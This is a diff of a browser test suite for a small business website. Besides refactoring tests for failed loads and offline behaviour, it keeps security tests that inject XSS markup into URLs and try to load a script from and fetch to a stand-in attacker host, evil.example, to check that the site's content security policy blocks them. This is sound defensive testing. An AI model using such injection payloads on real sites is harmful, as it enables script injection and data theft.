@@ -7,7 +7,6 @@ import { click, follow, heading, press } from '../support/visits/controls.ts';
 import {
   arrive,
   blockStorage,
-  phone,
   readText,
   siteUrl,
   wait,
@@ -40,19 +39,19 @@ describe('a script that a new deployment has replaced', () => {
   });
 
   test.each([
-    ['opened by a link', paths.home, false],
-    ['opened directly where storage is blocked', paths.services, true],
+    ['opened by a link', false],
+    ['opened directly where storage is blocked', true],
   ])(
     'and that never loads leaves a readable page with a message, without endless reloads: %s',
-    async (_how, start, isBlocked) => {
+    async (_how, isDirect) => {
       const visitor = await arrive();
       const { page } = visitor;
-      if (isBlocked) await blockStorage(page, 'sessionStorage');
       await answerRequests(page, servicesScript, { status: 404 });
-      if (start === paths.services)
-        await page.goto(siteUrl + start, { waitUntil: 'load' });
-      else {
-        await visitor.open(start);
+      if (isDirect) {
+        await blockStorage(page, 'sessionStorage');
+        await page.goto(siteUrl + paths.services, { waitUntil: 'load' });
+      } else {
+        await visitor.open(paths.home);
         await clickLink(page, paths.services);
       }
       await waitForText(page, 'Part of this page did not load');
@@ -68,35 +67,33 @@ describe('a script that a new deployment has replaced', () => {
   );
 });
 
-describe('generated content that is', () => {
-  test.each([
-    ['missing', { status: 404 }],
-    [
-      'a web page',
-      {
-        status: 200,
-        headers: { 'Content-Type': 'text/html' },
-        body: '<!doctype html><title>Hello</title>',
-      },
-    ],
-    ['of another shape', { status: 200, body: '{"bodyHtml":null}' }],
-  ])(
-    '%s makes the browser load the whole page, which contains its content',
-    async (_fault, answer) => {
-      const { page } = await arrive({ path: paths.areas });
-      await answerRequests(page, '*/content/*', answer);
-      await clickLink(page, paths.town('exeter'));
-      await heading(page, 'Pressure Washing in Exeter').wait();
-      expect(await page.title()).toContain('Exeter');
-      expect(
-        await page.$eval('main', (main) => main.textContent!.length),
-      ).toBeGreaterThan(2000);
+test.each([
+  ['missing', { status: 404 }],
+  [
+    'a web page',
+    {
+      status: 200,
+      headers: { 'Content-Type': 'text/html' },
+      body: '<!doctype html><title>Hello</title>',
     },
-  );
-});
+  ],
+  ['of another shape', { status: 200, body: '{"bodyHtml":null}' }],
+])(
+  'generated content that is %s makes the browser load the whole page, which contains its content',
+  async (_fault, answer) => {
+    const { page } = await arrive({ path: paths.areas });
+    await answerRequests(page, '*/content/*', answer);
+    await clickLink(page, paths.town('exeter'));
+    await heading(page, 'Pressure Washing in Exeter').wait();
+    expect(await page.title()).toContain('Exeter');
+    expect(
+      await page.$eval('main', (main) => main.textContent!.length),
+    ).toBeGreaterThan(2000);
+  },
+);
 
 test('offline, a page that cannot load shows the phone number and opens once the connection is back', async () => {
-  const { page } = await arrive({ viewport: phone, path: paths.home });
+  const { page } = await arrive({ path: paths.home });
   await page.setOfflineMode(true);
   await clickLink(page, paths.services);
   await waitForText(page, 'There seems to be no connection.');
@@ -108,7 +105,7 @@ test('offline, a page that cannot load shows the phone number and opens once the
 });
 
 test('in a browser without popovers and dialogs the details of a service can still be opened and closed', async () => {
-  const { page, open, complaints } = await arrive({ viewport: phone });
+  const { page, open, complaints } = await arrive();
   await page.evaluateOnNewDocument(() => {
     for (const name of ['showPopover', 'hidePopover', 'togglePopover'])
       delete (HTMLElement.prototype as unknown as Record<string, unknown>)[
@@ -128,100 +125,95 @@ test('in a browser without popovers and dialogs the details of a service can sti
   expect(complaints).toEqual([]);
 });
 
-describe('hostile input', () => {
-  test('markup in the query or fragment of a URL does not run', async () => {
-    const { page, open, complaints } = await arrive();
-    const markup = encodeURI(
-      '<img src=x onerror="document.title=`run`"><script>document.title=`run`</script>',
-    );
-    await open(`/?q=${markup}#${markup}`);
-    await open('/#%E0%A4%A');
-    await open('/#"]');
-    expect(await page.title()).toContain('Tidemark');
-    expect(complaints).toEqual([]);
-  });
+test('markup in the query or fragment of a URL does not run', async () => {
+  const { page, open, complaints } = await arrive();
+  const markup = encodeURI(
+    '<img src=x onerror="document.title=`run`"><script>document.title=`run`</script>',
+  );
+  await open(`/?q=${markup}#${markup}`);
+  await open('/#%E0%A4%A');
+  await open('/#"]');
+  expect(await page.title()).toContain('Tidemark');
+  expect(complaints).toEqual([]);
+});
 
-  test('a script injected into a page cannot run code or send data to another site', async () => {
-    const { page } = await arrive({ path: paths.home });
-    const outcome = await page.evaluate(async () => {
-      const blocked: string[] = [];
-      addEventListener('securitypolicyviolation', (event) =>
-        blocked.push(event.effectiveDirective),
-      );
-      const refused: string[] = [];
-      const attempt = (name: string, action: () => void) => {
-        try {
-          action();
-        } catch {
-          refused.push(name);
+test('a script injected into a page cannot run code or send data to another site', async () => {
+  const { page } = await arrive({ path: paths.home });
+  const outcome = await page.evaluate(async () => {
+    const blocked: string[] = [];
+    addEventListener('securitypolicyviolation', (event) =>
+      blocked.push(event.effectiveDirective),
+    );
+    const refused: string[] = [];
+    const attempt = (name: string, action: () => void) => {
+      try {
+        action();
+      } catch {
+        refused.push(name);
+      }
+    };
+    const put = (tag: string) =>
+      document.body.appendChild(document.createElement(tag));
+    attempt('markup', () =>
+      document.body.insertAdjacentHTML(
+        'beforeend',
+        '<img src="/none.png" onerror="window.ran = true">',
+      ),
+    );
+    attempt('parsed text', () =>
+      new DOMParser().parseFromString('<img src="/none.png">', 'text/html'),
+    );
+    attempt('handler', () =>
+      put('img').setAttribute('onerror', 'window.ran = true'),
+    );
+    attempt('script', () => (put('script').textContent = 'window.ran = true'));
+    attempt(
+      'foreign script',
+      () =>
+        ((put('script') as HTMLScriptElement).src =
+          'https://evil.example/x.js'),
+    );
+    attempt('another gate', () =>
+      (
+        window as unknown as {
+          trustedTypes: { createPolicy(name: string, rules: object): void };
         }
-      };
-      const put = (tag: string) =>
-        document.body.appendChild(document.createElement(tag));
-      attempt('markup', () =>
-        document.body.insertAdjacentHTML(
-          'beforeend',
-          '<img src="/none.png" onerror="window.ran = true">',
-        ),
-      );
-      attempt('parsed text', () =>
-        new DOMParser().parseFromString('<img src="/none.png">', 'text/html'),
-      );
-      attempt('handler', () =>
-        put('img').setAttribute('onerror', 'window.ran = true'),
-      );
-      attempt(
-        'script',
-        () => (put('script').textContent = 'window.ran = true'),
-      );
-      attempt(
-        'foreign script',
-        () =>
-          ((put('script') as HTMLScriptElement).src =
-            'https://evil.example/x.js'),
-      );
-      attempt('another gate', () =>
-        (
-          window as unknown as {
-            trustedTypes: { createPolicy(name: string, rules: object): void };
-          }
-        ).trustedTypes //
-          .createPolicy('other', {}),
-      );
-      const link = put('a') as HTMLAnchorElement;
-      link.href = 'javascript:window.ran = true';
-      link.click();
-      const sent = await fetch('https://evil.example/', {
-        mode: 'no-cors',
-      }).then(
-        () => true,
-        () => false,
-      );
-      await new Promise((resolve) => setTimeout(resolve, 500));
-      return {
-        ran: 'ran' in window,
-        sent,
-        refused,
-        blocked: [...new Set(blocked)].sort(),
-      };
-    });
-    expect(outcome).toEqual({
-      ran: false,
-      sent: false,
-      refused: [
-        'markup',
-        'parsed text',
-        'handler',
-        'script',
-        'foreign script',
-        'another gate',
-      ],
-      blocked: [
-        'connect-src',
-        'require-trusted-types-for',
-        'script-src-elem',
-        'trusted-types',
-      ],
-    });
+      ).trustedTypes //
+        .createPolicy('other', {}),
+    );
+    const link = put('a') as HTMLAnchorElement;
+    link.href = 'javascript:window.ran = true';
+    link.click();
+    const sent = await fetch('https://evil.example/', {
+      mode: 'no-cors',
+    }).then(
+      () => true,
+      () => false,
+    );
+    await new Promise((resolve) => setTimeout(resolve, 500));
+    return {
+      ran: 'ran' in window,
+      sent,
+      refused,
+      blocked: [...new Set(blocked)].sort(),
+    };
+  });
+  expect(outcome).toEqual({
+    ran: false,
+    sent: false,
+    refused: [
+      'markup',
+      'parsed text',
+      'handler',
+      'script',
+      'foreign script',
+      'another gate',
+    ],
+    blocked: [
+      'connect-src',
+      'require-trusted-types-for',
+      'script-src-elem',
+      'trusted-types',
+    ],
   });
 });
